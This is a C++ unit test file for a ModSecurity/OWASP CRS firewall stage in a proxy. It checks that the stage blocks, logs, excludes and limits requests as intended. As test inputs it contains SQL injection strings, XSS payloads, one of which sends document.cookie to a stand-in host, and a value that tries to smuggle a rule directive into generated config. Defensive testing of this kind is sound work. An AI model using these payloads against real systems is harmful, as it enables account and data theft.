// The firewall's stages with Debian's OWASP CRS (modsecurity-crs), fed an
// ExchangeState as the exchange would: head hook, body chunks, end hook;
// no sockets. What is checked is what a client and an operator see: the
// verdict, the 403 text with its transaction ID, the audit line's rule IDs.
#include <gtest/gtest.h>
#include <fcntl.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "base/ip_prefix.h"
#include "dataplane/waf/firewall.h"
#include "dataplane/waf/waf_stage.h"

// libmodsecurity 3.0.9 (Debian 12) leaks its flex scanner buffer when a rule
// file does not parse (yy_scan_bytes is never paired with yy_delete_buffer
// on the error path). The leak is the library's, 3 KiB per rejected rule
// set; LeakSanitizer sees it only when no stale pointer hides it, so the
// ASan run failed on some machines and not others. Suppressed by name.
extern "C" const char* __lsan_default_suppressions() {
  return "leak:yy_scan_bytes\nleak:yy_scan_buffer\n";
}

namespace sluice::waf {
namespace {

using pipeline::ExchangeState;
using pipeline::Verdict;

// Audit lines go through a pipe the test reads back.
class AuditPipe {
 public:
  AuditPipe() {
    EXPECT_EQ(pipe(fds_), 0);
    log_ = std::make_unique<AuditLog>(fds_[1]);
  }
  ~AuditPipe() {
    close(fds_[0]);
    close(fds_[1]);
  }
  const AuditLog* log() const { return log_.get(); }
  std::string Drain() {
    std::string out;
    char buffer[65536];
    fcntl(fds_[0], F_SETFL, O_NONBLOCK);
    ssize_t n;
    while ((n = read(fds_[0], buffer, sizeof buffer)) > 0) out.append(buffer, static_cast<size_t>(n));
    return out;
  }

 private:
  int fds_[2];
  std::unique_ptr<AuditLog> log_;
};

// Compiled once for the whole test binary: the CRS takes a while.
std::shared_ptr<const CompiledRules> RulesFor(const v1::WafPolicy& policy) {
  static RulesCache* cache = new RulesCache(RulesEnvironment{});
  auto rules = cache->Get(policy);
  EXPECT_TRUE(rules.ok()) << rules.status().message();
  return rules.ok() ? *rules : nullptr;
}

v1::WafPolicy Policy(v1::WafPolicy::Mode mode) {
  v1::WafPolicy policy;
  policy.set_mode(mode);
  return policy;
}

struct Outcome {
  Verdict verdict = Verdict::kContinue;
  int status = 0;
  std::string text;
  std::string audit;
  bool buffered = false;  // the stage asked for request buffering
  bool released = false;  // ... and let go of it (over the limit, pass mode)
};

class WafStageTest : public ::testing::Test {
 protected:
  // Runs a request through the request stage as the exchange does, the
  // body in `chunk`-sized pieces.
  Outcome Run(const v1::WafPolicy& policy, std::string method, std::string path,
              std::vector<std::pair<std::string, std::string>> headers = {}, std::string body = "",
              size_t chunk = 4096, bool declare_length = true) {
    WafRequestStage stage(Firewall(policy));
    ExchangeState state = Browser(std::move(method), std::move(path));
    for (auto& [name, value] : headers) state.request.headers.Add(name, value);
    if (!body.empty() && declare_length) {
      state.request_content_length = static_cast<int64_t>(body.size());
      state.request.headers.Add("content-length", std::to_string(body.size()));
    }
    Outcome out;
    out.verdict = stage.OnRequestHead(state);
    out.buffered = state.buffer_request_body != 0;
    for (size_t off = 0; out.verdict == Verdict::kContinue && off < body.size(); off += chunk) {
      std::string_view piece = std::string_view(body).substr(off, chunk);
      state.request_body_bytes += piece.size();
      out.verdict = stage.OnRequestBody(state, piece);
      if (out.buffered && state.buffer_request_body == 0) out.released = true;
    }
    if (out.verdict == Verdict::kContinue) out.verdict = stage.OnRequestEnd(state, nullptr);
    out.status = state.reply.status;
    out.text = std::string(state.reply.text());
    out.audit = audit_.Drain();
    return out;
  }

  std::shared_ptr<const RouteFirewall> Firewall(const v1::WafPolicy& policy) {
    return RouteFirewall::From(policy, RulesFor(policy), "shop/web", audit_.log(), counters_);
  }
  // A request as a browser sends it, from client_.
  ExchangeState Browser(std::string method, std::string path) {
    ExchangeState state;
    state.client = &client_;
    state.request.method = std::move(method);
    state.request.path = std::move(path);
    state.request.authority = "shop.example";
    state.request.headers.Add("host", "shop.example");
    state.request.headers.Add("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0");
    state.request.headers.Add("accept", "text/html,application/json;q=0.9,*/*;q=0.8");
    return state;
  }

  http::ClientInfo client_ = http::ClientInfo::At(*IpAddress::Parse("192.0.2.7"));
  AuditPipe audit_;
  std::shared_ptr<RouteCounters> counters_ = std::make_shared<RouteCounters>();
};

void ExpectBlocked(const Outcome& out, std::string_view rule_family) {
  EXPECT_EQ(out.verdict, Verdict::kReply);
  EXPECT_EQ(out.status, 403);
  EXPECT_NE(out.text.find("transaction ID: "), std::string::npos) << out.text;
  EXPECT_EQ(out.text.find("942"), std::string::npos) << "no rule text in the reply: " << out.text;
  EXPECT_NE(out.audit.find("\"action\":\"blocked\""), std::string::npos) << out.audit;
  EXPECT_NE(out.audit.find("949110"), std::string::npos) << out.audit;
  EXPECT_NE(out.audit.find(rule_family), std::string::npos) << out.audit;
}

TEST_F(WafStageTest, CleanRequestsPass) {
  v1::WafPolicy policy = Policy(v1::WafPolicy::BLOCK);
  Outcome get = Run(policy, "GET", "/products?category=shoes&page=2&sort=price");
  EXPECT_EQ(get.verdict, Verdict::kContinue) << get.audit;
  EXPECT_TRUE(get.buffered);
  EXPECT_EQ(get.audit, "");
  Outcome form = Run(policy, "POST", "/login", {{"content-type", "application/x-www-form-urlencoded"}},
                     "username=alice&password=correct+horse+battery&remember=on");
  EXPECT_EQ(form.verdict, Verdict::kContinue) << form.audit;
  Outcome json = Run(policy, "POST", "/api/orders", {{"content-type", "application/json"}},
                     R"({"items":[{"sku":"A-100","qty":2}],"note":"leave at the door"})");
  EXPECT_EQ(json.verdict, Verdict::kContinue) << json.audit;
}

TEST_F(WafStageTest, SqlInjectionAndXssAreBlockedWhereverTheyAre) {
  v1::WafPolicy policy = Policy(v1::WafPolicy::BLOCK);
  ExpectBlocked(Run(policy, "GET", "/products?id=1%27%20OR%20%271%27=%271"), "\"id\":942");
  ExpectBlocked(Run(policy, "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), "\"id\":941");
  ExpectBlocked(Run(policy, "POST", "/login", {{"content-type", "application/x-www-form-urlencoded"}},
                    "username=admin%27%20OR%201=1--&password=x"),
                "\"id\":942");
  ExpectBlocked(Run(policy, "POST", "/api/comments", {{"content-type", "application/json"}},
                    R"({"comment":"<script>document.location='http://evil/'+document.cookie</script>"})"),
                "\"id\":941");
  ExpectBlocked(Run(policy, "GET", "/", {{"referer", "http://x/' UNION SELECT password FROM users--"}}),
                "\"id\":942");
}

TEST_F(WafStageTest, TheBodyIsDecidedAtTheEndEvenInSmallChunks) {
  v1::WafPolicy policy = Policy(v1::WafPolicy::BLOCK);
  std::string body = "a=" + std::string(3000, 'x') + "&q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
  Outcome out = Run(policy, "POST", "/form", {{"content-type", "application/x-www-form-urlencoded"}}, body, 7,
                    /*declare_length=*/false);
  ExpectBlocked(out, "\"id\":942");
}

TEST_F(WafStageTest, BodyThatCameWhileAnEarlierStageWaitedIsInspected) {
  // An earlier stage's head hook paused (a remote rate-limit decision): the
  // body hooks see the chunks before this stage's head hook ran.
  WafRequestStage stage(Firewall(Policy(v1::WafPolicy::BLOCK)));
  ExchangeState state = Browser("POST", "/form");
  state.request.headers.Add("content-type", "application/x-www-form-urlencoded");
  std::string body = "q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
  state.request.headers.Add("content-length", std::to_string(body.size()));
  state.request_content_length = static_cast<int64_t>(body.size());
  state.request_body_bytes = body.size();
  EXPECT_EQ(stage.OnRequestBody(state, body), Verdict::kContinue);
  EXPECT_EQ(stage.OnRequestHead(state), Verdict::kContinue);
  EXPECT_EQ(stage.OnRequestEnd(state, nullptr), Verdict::kReply);
  EXPECT_EQ(state.reply.status, 403);
}

TEST_F(WafStageTest, ResponseBodyLeakIsCutShortWhenInspected) {
  v1::WafPolicy policy = Policy(v1::WafPolicy::BLOCK);
  policy.set_inspect_response_body(true);
  auto firewall = Firewall(policy);
  WafRequestStage request_stage(firewall);
  WafResponseStage response_stage(firewall);
  ExchangeState state = Browser("GET", "/report?id=7");
  ASSERT_EQ(request_stage.OnRequestHead(state), Verdict::kContinue);
  ASSERT_EQ(request_stage.OnRequestEnd(state, nullptr), Verdict::kContinue);
  http::ResponseHead head;
  head.status = 200;
  head.headers.Add("content-type", "text/html");
  // The proxy's own replies are not inspected.
  EXPECT_EQ(response_stage.OnResponseHead(state, head, /*local=*/true), Verdict::kContinue);
  ASSERT_EQ(response_stage.OnResponseHead(state, head, /*local=*/false), Verdict::kContinue);
  std::string_view chunk =
      "<html><body>Warning: mysql_fetch_array(): You have an error in your SQL syntax; check the manual that "
      "corresponds to your MySQL server version for the right syntax to use near '' at line 1</body></html>";
  EXPECT_EQ(response_stage.OnResponseBody(state, chunk), Verdict::kContinue);
  std::string_view tail;
  EXPECT_EQ(response_stage.OnResponseEnd(state, tail), Verdict::kReply) << audit_.Drain();
  EXPECT_NE(audit_.Drain().find("\"phase\":\"response\""), std::string::npos);
}

TEST_F(WafStageTest, DetectModeLogsAndPasses) {
  Outcome out = Run(Policy(v1::WafPolicy::DETECT), "GET", "/products?id=1%27%20OR%20%271%27=%271");
  EXPECT_EQ(out.verdict, Verdict::kContinue);
  EXPECT_NE(out.audit.find("\"action\":\"detected\""), std::string::npos) << out.audit;
  EXPECT_NE(out.audit.find("\"mode\":\"detect\""), std::string::npos) << out.audit;
  EXPECT_NE(out.audit.find("949110"), std::string::npos) << out.audit;
  EXPECT_EQ(counters_->detected(), 1u);
  EXPECT_EQ(counters_->blocked(), 0u);
}

TEST_F(WafStageTest, ExcludedRulesAndTagsLetTheRequestThrough) {
  v1::WafPolicy by_tag = Policy(v1::WafPolicy::BLOCK);
  by_tag.add_exclude_tags("attack-sqli");
  EXPECT_EQ(Run(by_tag, "GET", "/products?id=1%27%20OR%20%271%27=%271").verdict, Verdict::kContinue);
  // The rule IDs the blocked request names, excluded one by one.
  Outcome blocked = Run(Policy(v1::WafPolicy::BLOCK), "GET", "/products?id=1%27%20OR%20%271%27=%271");
  v1::WafPolicy by_id = Policy(v1::WafPolicy::BLOCK);
  for (size_t at = blocked.audit.find("\"id\":942"); at != std::string::npos;
       at = blocked.audit.find("\"id\":942", at + 1)) {
    by_id.add_exclude_rule_ids(static_cast<uint32_t>(std::stoul(blocked.audit.substr(at + 5, 6))));
  }
  ASSERT_GT(by_id.exclude_rule_ids_size(), 0);
  Outcome out = Run(by_id, "GET", "/products?id=1%27%20OR%20%271%27=%271");
  EXPECT_EQ(out.verdict, Verdict::kContinue) << out.audit;
}

TEST_F(WafStageTest, BodyOverTheLimit) {
  v1::WafPolicy reject = Policy(v1::WafPolicy::BLOCK);
  reject.set_request_body_limit(1024);
  std::string body = "data=" + std::string(4000, 'a');
  // Declared: refused before any byte is read.
  Outcome declared = Run(reject, "POST", "/upload", {{"content-type", "application/x-www-form-urlencoded"}}, body);
  EXPECT_EQ(declared.status, 413);
  // Chunked: refused when the bytes pass the limit.
  Outcome chunked = Run(reject, "POST", "/upload", {{"content-type", "application/x-www-form-urlencoded"}}, body, 512,
                        /*declare_length=*/false);
  EXPECT_EQ(chunked.status, 413);
  // Pass: the first KiB is inspected, then buffering ends and the rest flows.
  v1::WafPolicy pass = reject;
  pass.set_pass_over_body_limit(true);
  Outcome passed = Run(pass, "POST", "/upload", {{"content-type", "application/x-www-form-urlencoded"}}, body, 512);
  EXPECT_EQ(passed.verdict, Verdict::kContinue) << passed.audit;
  EXPECT_TRUE(passed.released);
  // ... and an attack in that first KiB is still blocked.
  Outcome attack = Run(pass, "POST", "/upload", {{"content-type", "application/x-www-form-urlencoded"}},
                       "q=1%27%20UNION%20SELECT%20password%20FROM%20users--&data=" + std::string(4000, 'a'), 512);
  EXPECT_EQ(attack.status, 403) << attack.audit;
}

TEST_F(WafStageTest, MalformedJsonIsRefused) {
  Outcome out = Run(Policy(v1::WafPolicy::BLOCK), "POST", "/api", {{"content-type", "application/json"}},
                    R"({"a": [1, 2)");
  EXPECT_EQ(out.status, 400) << out.audit;
  EXPECT_NE(out.audit.find("200002"), std::string::npos) << out.audit;
}

TEST_F(WafStageTest, TransactionIdFromTheNamedHeader) {
  v1::WafPolicy policy = Policy(v1::WafPolicy::BLOCK);
  policy.set_transaction_id_header("X-Request-ID");
  Outcome out = Run(policy, "GET", "/?id=1%27%20OR%20%271%27=%271", {{"x-request-id", "req-42"}});
  EXPECT_NE(out.text.find("transaction ID: req-42"), std::string::npos) << out.text;
  EXPECT_NE(out.audit.find("\"transaction_id\":\"req-42\""), std::string::npos) << out.audit;
}

TEST_F(WafStageTest, CountersByRule) {
  Run(Policy(v1::WafPolicy::BLOCK), "GET", "/products?id=1%27%20OR%20%271%27=%271");
  EXPECT_EQ(counters_->blocked(), 1u);
  bool anomaly = false;
  for (auto [rule, count] : counters_->RuleCounts()) anomaly = anomaly || (rule == 949110 && count == 1);
  EXPECT_TRUE(anomaly);
}

TEST(WafRulesTest, ExclusionsAreGeneratedFromNumbersAndCleanTagsOnly) {
  v1::WafPolicy policy;
  policy.set_mode(v1::WafPolicy::BLOCK);
  policy.set_paranoia_level(2);
  policy.add_exclude_rule_ids(942100);
  policy.add_exclude_tags("attack-xss");
  policy.add_exclude_tags("x\"\nSecRuleEngine Off");
  std::string text = RulesText(policy, RulesEnvironment{});
  EXPECT_NE(text.find("SecRuleRemoveById 942100\n"), std::string::npos);
  EXPECT_NE(text.find("SecRuleRemoveByTag \"attack-xss\"\n"), std::string::npos);
  EXPECT_EQ(text.find("SecRuleEngine Off"), std::string::npos);
  EXPECT_NE(text.find("tx.paranoia_level=2"), std::string::npos);
}

TEST(WafRulesTest, ExtraRulesThatDoNotCompileAreRejected) {
  char path[] = "/tmp/waf-extra-XXXXXX";
  int fd = mkstemp(path);
  ASSERT_GE(fd, 0);
  std::string bad = "SecRule ARGS \"@rx x\" \"id:1,phase:2,nonsense_action\"\n";
  ASSERT_EQ(write(fd, bad.data(), bad.size()), static_cast<ssize_t>(bad.size()));
  close(fd);
  Firewall firewall(RulesEnvironment{.extra_rules_file = path}, nullptr);
  Status checked = firewall.Check();
  EXPECT_FALSE(checked.ok());
  unlink(path);
}

// A route whose firewall does not compile answers 503 and is named, with
// the reason, for the proxy's partial ACK while a snapshot holds it.
TEST(FirewallTest, ARouteWhoseRulesDoNotCompileFailsClosedAndIsReported) {
  char path[] = "/tmp/waf-extra-XXXXXX";
  int fd = mkstemp(path);
  ASSERT_GE(fd, 0);
  std::string bad = "SecRule ARGS \"@rx x\" \"id:1,phase:2,nonsense_action\"\n";
  ASSERT_EQ(write(fd, bad.data(), bad.size()), static_cast<ssize_t>(bad.size()));
  close(fd);
  Firewall firewall(RulesEnvironment{.extra_rules_file = path}, nullptr);
  v1::RoutePolicy policy;
  policy.mutable_waf()->set_mode(v1::WafPolicy::BLOCK);
  {
    std::vector<std::unique_ptr<const pipeline::Stage>> stages;
    firewall.AddStages(policy, "shop/web", stages);
    ASSERT_EQ(stages.size(), 1u);
    EXPECT_EQ(stages[0]->name(), "waf_unavailable");
    http::ClientInfo client = http::ClientInfo::At(*IpAddress::Parse("192.0.2.7"));
    ExchangeState state;
    state.client = &client;
    EXPECT_EQ(stages[0]->OnRequestHead(state), Verdict::kReply);
    EXPECT_EQ(state.reply.status, 503);
    std::vector<Firewall::RejectedRoute> rejected = firewall.RejectedRoutes();
    ASSERT_EQ(rejected.size(), 1u);
    EXPECT_EQ(rejected[0].route, "shop/web");
    EXPECT_FALSE(rejected[0].error.empty());
  }
  // The snapshot that held the route is gone: nothing is reported any more.
  EXPECT_TRUE(firewall.RejectedRoutes().empty());
  unlink(path);
}

}  // namespace
}  // namespace sluice::waf
